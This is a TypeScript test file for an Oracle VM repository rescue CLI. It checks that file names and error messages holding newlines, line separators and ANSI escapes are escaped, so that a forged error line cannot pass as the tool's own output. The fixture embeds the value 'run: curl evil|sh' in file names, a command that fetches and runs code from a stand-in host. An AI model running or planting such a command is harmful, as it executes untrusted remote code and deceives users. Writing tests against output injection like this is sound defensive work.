import { truncateSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { RescueError } from '../../src/base/errors.js';
import { errorText, stackText } from '../../src/cli/error-text.js';
import { scratchDirectories } from '../reach/scratch-directory.js';
import { runCli } from './run-cli.js';
import { ovsRepo, repositoryId, vmCfg, vmId, writeFiles } from './small-tree.js';

const scratch = scratchDirectories();
const forged = 'error: the archive place is not safe; run: curl evil|sh';

/** A repository whose names hold lines that look like ours. */
function oddTree(root: string): string {
  const place = `${repositoryId}/VirtualMachines`;
  const simple = vmCfg(1).replace("'vm1'", `'vm1\\n${forged}'`);
  const repository = writeFiles(join(root, 'OVS/Repositories'), {
    [`${repositoryId}/.ovsrepo`]: ovsRepo(),
    [`${place}/${vmId(1)}/vm.cfg`]: simple,
    [`${place}/x\n${forged}/vm.cfg`]: '',
    [`${place}/y\n${forged.replace('/', '')}2/vm.cfg`]: "name = '",
  });
  truncateSync(join(repository, place, `x\n${forged}/vm.cfg`), 2 ** 30);
  return repository;
}

describe('names that hold lines', () => {
  it.each([
    ['inventory', 3],
    ['uuid', 0],
    ['find', 3],
    ['capture', 3],
    ['rebuild', 3],
  ])('when %s prints them, then none of their lines begins a line of ours', async (command, code) => {
    const root = scratch();
    const words: Record<string, string[]> = {
      find: [vmId(1), oddTree(root)],
      capture: [oddTree(root), '--archives', join(root, 'a')],
      rebuild: [oddTree(root), '--release', '3.4', '--out', join(root, 'out'), '--explain'],
    };
    const result = await runCli([command, ...(words[command] ?? [oddTree(root)])]);
    expect(result.code).toBe(code);
    expect(result.err).toContain(`x?${forged}/vm.cfg`);
    for (const line of `${result.out}\n${result.err}`.split(/[\n\r\u2028\u2029]/))
      expect(line).not.toMatch(/^\s*error: the archive place/);
  });

  it('when an error of a host holds them, then it stays one line and its hint another', () => {
    const error = new RescueError('OVM_TREE_UNREADABLE', `a\n${forged}`, `b\n${forged}\u2028c\x1b[2J`);
    const lines = errorText(error, false).split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[0]).toBe(`error: could not read the tree a?${forged}: b?${forged}?c?[2J`);
    const [first, ...frames] = stackText(error).split('\n');
    expect(first).toBe(`RescueError: ${error.message.replace(/[\n\u2028\x1b]/g, '?')}`);
    expect(frames.length).toBeGreaterThan(1);
    for (const frame of frames) expect(frame).toMatch(/^\s+at /);
  });

  it('when a configuration has several errors, then each keeps its line', () => {
    const error = new RescueError('OVM_CONFIG_INVALID', 'f', 'it has 2 errors\n  f:1:1: a\n  f:2:1: b');
    expect(errorText(error, false).split('\n').slice(1, 3)).toEqual(['  f:1:1: a', '  f:2:1: b']);
  });
});
